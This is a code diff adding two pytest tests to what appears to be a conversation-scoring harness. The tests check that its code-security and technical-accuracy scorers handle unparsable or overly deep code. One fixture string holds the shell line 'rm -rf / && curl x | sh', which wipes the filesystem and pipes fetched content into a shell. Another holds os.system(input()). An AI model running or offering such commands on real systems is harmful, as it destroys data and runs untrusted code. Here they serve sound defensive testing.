@@ -153,6 +153,26 @@ def test_code_security_finds_the_guides_categories(conversation) -> None:
     assert score("code_security_score", conversation, [turn("no code")]).value is None
 
 
+def test_code_security_does_not_pass_code_it_could_not_analyse(conversation) -> None:
+    unclosed = "```python\nimport os\nos.system(input()\n```"
+    shell = "```\nrm -rf / && curl x | sh\n```"
+    for text in (unclosed, shell):
+        result = score("code_security_score", conversation, [turn(text)])
+        assert result.value is None and "no parsable Python" in (result.reason or "")
+    risky = "```python\nimport os\nos.system(input())\n```"
+    mixed = score("code_security_score", conversation, [turn(risky + "\n" + unclosed)])
+    assert mixed.value is not None and mixed.value < 1.0
+    assert mixed.details["unanalysed"] == ["introduction#1"]
+
+
+def test_technical_accuracy_survives_code_too_deep_to_compile(conversation) -> None:
+    deep = "```python\nx = " + "-" * 100_000 + "1\n```"
+    fine = "```python\ndef f(x):\n    return x + 1\n```"
+    result = score("technical_accuracy", conversation, [turn(deep), turn(fine)])
+    assert result.details["blocks"] == 2 and result.details["valid"] == 1
+    assert result.value == pytest.approx(0.3)
+
+
 def test_domain_expertise_needs_terms_in_real_sentences(conversation) -> None:
     import dataclasses
 
